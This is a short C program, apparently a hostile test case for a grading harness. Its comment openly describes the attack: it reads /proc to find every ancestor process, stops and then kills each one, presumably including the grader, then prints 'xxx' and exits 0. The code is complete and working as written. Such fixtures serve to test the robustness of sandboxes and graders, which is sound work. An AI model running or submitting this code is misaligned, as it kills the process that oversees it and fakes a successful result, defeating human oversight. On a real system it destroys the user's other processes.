/*
 * mmap_hello.c, HOSTILE: stops, then kills, every process above it: its
 * parent, its grandparent and so on up to pid 1, read from /proc, then it
 * prints xxx and exits 0.  An ordinary user's program may signal every
 * process of that user: the grader among them, unless it cannot see it.
 */
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

/* The parent of pid, from /proc/PID/stat (after the name in parentheses). */
static int parent_of(int pid)
{
	char path[64], stat[512], *paren;
	int ppid = 0;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	FILE *f = fopen(path, "r");
	if (f == NULL)
		return 0;
	size_t n = fread(stat, 1, sizeof(stat) - 1, f);
	fclose(f);
	stat[n] = '\0';
	if ((paren = strrchr(stat, ')')) == NULL || sscanf(paren + 2, "%*c %d", &ppid) != 1)
		return 0;
	return ppid;
}

int main(void)
{
	int up[16], n = 0;

	for (int pid = parent_of(getpid()); pid > 1 && n < 16; pid = parent_of(pid))
		up[n++] = pid;
	for (int i = 0; i < n; i++)
		kill(up[i], SIGSTOP);
	for (int i = 0; i < n; i++)
		kill(up[i], SIGKILL);
	printf("xxx\n");
	return 0;
}
